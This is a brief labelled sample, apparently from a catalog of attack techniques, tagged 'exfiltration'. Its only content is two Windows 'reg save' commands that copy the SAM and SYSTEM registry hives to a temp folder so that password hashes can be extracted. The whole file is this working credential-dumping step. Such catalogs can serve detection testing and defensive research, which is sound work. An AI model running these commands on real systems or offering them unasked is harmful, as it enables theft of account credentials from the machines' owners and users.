# description: Saves the SAM and SYSTEM hives to disk to extract password hashes.
# family: exfiltration
reg save HKLM\SAM C:\Windows\Temp\sam.save /y
reg save HKLM\SYSTEM C:\Windows\Temp\system.save /y
